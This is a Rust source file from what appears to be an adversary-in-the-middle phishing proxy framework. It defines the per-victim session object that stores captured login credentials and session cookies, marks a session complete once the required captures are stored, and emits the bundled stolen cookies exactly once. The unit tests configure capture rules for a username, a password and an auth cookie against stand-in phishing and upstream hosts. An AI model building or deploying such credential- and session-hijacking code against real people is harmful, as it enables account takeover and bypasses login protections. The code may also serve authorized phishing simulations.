use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Instant;

use dashmap::DashMap;
use uuid::Uuid;

use crate::config::proxy_config::{HostConfig, ProxyConfig};

/// The heart of runtime state (§3): one `ProxySession` per victim, keyed by
/// an engine-issued cookie. Safe for concurrent access from multiple
/// requests (multi-tab victims are expected, §5) even though in practice
/// the session cookie serializes a single browser's requests.
pub struct ProxySession {
    pub id: Uuid,
    pub campaign_id: Uuid,
    pub campaign_recipient_id: Uuid,
    pub recipient_id: Uuid,
    pub domain: String,
    pub target_domain: String,
    /// The victim's User-Agent, captured verbatim at session creation and
    /// never overwritten — the event emitter always reports this value,
    /// even after the request pipeline retains or rewrites the outbound UA.
    pub user_agent: Option<String>,
    pub created_at: Instant,

    /// upstream-host → compiled per-host config, global rules already
    /// appended by `ProxyConfig::compile`.
    pub config: DashMap<String, Arc<HostConfig>>,

    /// capture-name → extracted value (a flat string/value map for most
    /// engines, a structured record for `cookie` captures).
    pub captured_data: DashMap<String, serde_json::Value>,

    /// capture-name → completion flag, seeded false for every
    /// `required: true` capture across the session's host configs.
    required_captures: DashMap<String, AtomicBool>,

    is_complete: AtomicBool,
    cookie_bundle_submitted: AtomicBool,
    next_page_type: Mutex<Option<String>>,
}

impl ProxySession {
    pub fn new(
        campaign_id: Uuid,
        campaign_recipient_id: Uuid,
        recipient_id: Uuid,
        domain: String,
        target_domain: String,
        user_agent: Option<String>,
        proxy_config: &ProxyConfig,
    ) -> Self {
        let config = DashMap::new();
        let required_captures = DashMap::new();

        for (upstream_host, host_cfg) in &proxy_config.hosts {
            for rule in &host_cfg.rules.capture {
                if rule.required {
                    required_captures
                        .entry(rule.name.clone())
                        .or_insert_with(|| AtomicBool::new(false));
                }
            }
            config.insert(upstream_host.clone(), Arc::new(host_cfg.clone()));
        }

        Self {
            id: Uuid::new_v4(),
            campaign_id,
            campaign_recipient_id,
            recipient_id,
            domain,
            target_domain,
            user_agent,
            created_at: Instant::now(),
            config,
            captured_data: DashMap::new(),
            required_captures,
            is_complete: AtomicBool::new(false),
            cookie_bundle_submitted: AtomicBool::new(false),
            next_page_type: Mutex::new(None),
        }
    }

    pub fn host_config(&self, upstream_host: &str) -> Option<Arc<HostConfig>> {
        self.config.get(upstream_host).map(|e| e.value().clone())
    }

    pub fn is_complete(&self) -> bool {
        self.is_complete.load(Ordering::Acquire)
    }

    /// Records that `name`'s data has actually been stored and, only then,
    /// flips its required-captures entry to `true` (§4.9: "transitions to
    /// true only when captured data has actually been stored"). Returns
    /// whether this call caused `is_complete` to become true (false→true
    /// edge, used to trigger cookie-bundle emission and campaign-flow
    /// progression exactly once per completion).
    pub fn record_capture(&self, name: &str, value: serde_json::Value) -> bool {
        self.captured_data.insert(name.to_string(), value);

        if let Some(flag) = self.required_captures.get(name) {
            flag.store(true, Ordering::Release);
        }

        let was_complete = self.is_complete.load(Ordering::Acquire);
        if was_complete {
            return false;
        }

        let now_complete = self
            .required_captures
            .iter()
            .all(|e| e.value().load(Ordering::Acquire));

        if now_complete {
            // Monotonic false→true transition; never reset back to false.
            self.is_complete.store(true, Ordering::Release);
        }
        now_complete && !was_complete
    }

    /// At-most-once flag for the bundled cookie emit (§3, §8). Returns
    /// `true` exactly once, on the call that performs the false→true
    /// transition.
    pub fn try_submit_cookie_bundle(&self) -> bool {
        self.cookie_bundle_submitted
            .compare_exchange(false, true, Ordering::AcqRel, Ordering::Acquire)
            .is_ok()
    }

    pub fn cookie_bundle_submitted(&self) -> bool {
        self.cookie_bundle_submitted.load(Ordering::Acquire)
    }

    pub fn stage_next_page(&self, page_type: String) {
        let mut guard = self.next_page_type.lock().expect("next_page_type mutex poisoned");
        *guard = Some(page_type);
    }

    /// Clears `next_page_type` atomically with the read, so a redirect for
    /// `X` issued from this call can never be issued twice (§8 campaign-flow
    /// redirect idempotence).
    pub fn take_next_page(&self) -> Option<String> {
        let mut guard = self.next_page_type.lock().expect("next_page_type mutex poisoned");
        guard.take()
    }

    pub fn age(&self) -> std::time::Duration {
        self.created_at.elapsed()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::proxy_config::ProxyConfig;

    fn sample_config() -> ProxyConfig {
        let yaml = r#"
version: "0.0"
global:
  capture:
    - name: login
      from: request_body
      engine: form
      find: [username, password]
    - name: session_cookie
      from: cookie
      find: [auth]
hosts:
  "upstream.example.com":
    to: "phish.test"
"#;
        ProxyConfig::compile(yaml).unwrap()
    }

    #[test]
    fn completion_is_monotonic_and_edge_triggered() {
        let cfg = sample_config();
        let session = ProxySession::new(
            Uuid::new_v4(),
            Uuid::new_v4(),
            Uuid::new_v4(),
            "phish.test".to_string(),
            "upstream.example.com".to_string(),
            Some("UA/1.0".to_string()),
            &cfg,
        );

        assert!(!session.is_complete());
        let edge = session.record_capture("login", serde_json::json!({"username": "a"}));
        assert!(!edge, "one of two required captures is not a completion edge");
        assert!(!session.is_complete());

        let edge = session.record_capture("session_cookie", serde_json::json!({"name": "auth"}));
        assert!(edge, "second required capture completes the session");
        assert!(session.is_complete());

        // Re-recording a capture after completion must not re-trigger the edge.
        let edge = session.record_capture("login", serde_json::json!({"username": "b"}));
        assert!(!edge);
        assert!(session.is_complete());
    }

    #[test]
    fn cookie_bundle_submits_at_most_once() {
        let cfg = sample_config();
        let session = ProxySession::new(
            Uuid::new_v4(),
            Uuid::new_v4(),
            Uuid::new_v4(),
            "phish.test".to_string(),
            "upstream.example.com".to_string(),
            None,
            &cfg,
        );
        assert!(session.try_submit_cookie_bundle());
        assert!(!session.try_submit_cookie_bundle());
    }

    #[test]
    fn next_page_is_cleared_on_take() {
        let cfg = sample_config();
        let session = ProxySession::new(
            Uuid::new_v4(),
            Uuid::new_v4(),
            Uuid::new_v4(),
            "phish.test".to_string(),
            "upstream.example.com".to_string(),
            None,
            &cfg,
        );
        session.stage_next_page("landing".to_string());
        assert_eq!(session.take_next_page(), Some("landing".to_string()));
        assert_eq!(session.take_next_page(), None);
    }
}
